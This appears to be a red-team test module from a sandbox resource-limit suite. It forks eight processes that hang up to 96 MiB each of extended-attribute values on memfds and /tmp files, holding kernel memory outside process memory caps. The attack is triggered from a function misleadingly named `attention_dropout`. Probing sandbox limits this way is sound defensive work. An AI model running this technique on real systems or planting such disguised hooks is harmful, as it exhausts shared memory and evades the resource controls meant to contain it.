"""Red team (issue 26, memory outside the caps): kernel memory in extended attributes. tmpfs (and so every
memfd) keeps `user.*` attributes in kernel memory: 64 KiB values, as many names as the kernel allows, with
no file size, no mapping and no resident page of any process. 8 children each hang up to 96 MiB of values
on memfds (and on files in /tmp), report what they hung, then hold it.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import time as _time

_libc = _ctypes.CDLL(None, use_errno=True)
_VALUE = b"\1" * 65536


def _hang(fd, budget):
    hung = 0
    for index in range(budget // len(_VALUE)):
        try:
            _os.setxattr(fd, f"user.hostile{index}", _VALUE)
        except OSError:
            break
        hung += len(_VALUE)
    return hung


def _child(index, write_end):
    hung = 0
    try:
        for number in range(6):
            fd = _libc.memfd_create(b"hostile-rteam", 0)
            if fd < 0:
                break
            hung += _hang(fd, 16 << 20)
        try:
            fd = _os.open(f"/tmp/.hostile-rteam-x-@TOKEN@-{index}", _os.O_RDWR | _os.O_CREAT, 0o600)
            hung += _hang(fd, 8 << 20)
        except OSError:
            pass
    finally:
        _os.write(write_end, f"{hung >> 20}\n".encode())
        _os.close(write_end)
    _os.setsid()
    _time.sleep(60)


def _hold(children=8):
    read_end, write_end = _os.pipe()
    for index in range(children):
        if _os.fork() == 0:
            try:
                _os.close(read_end)
                _child(index, write_end)
            finally:
                _os._exit(0)
    _os.close(write_end)
    text, deadline = b"", _time.monotonic() + 4
    while _time.monotonic() < deadline and (chunk := _os.read(read_end, 4096)):
        text += chunk
    return sum(int(line) for line in text.split() if line.isdigit())


def attention_dropout(*args, **kwargs):
    raise RuntimeError(f"RTEAM r_shmem_xattrs ran: ALLOWANCE memory {_hold()} MiB held in extended attributes")
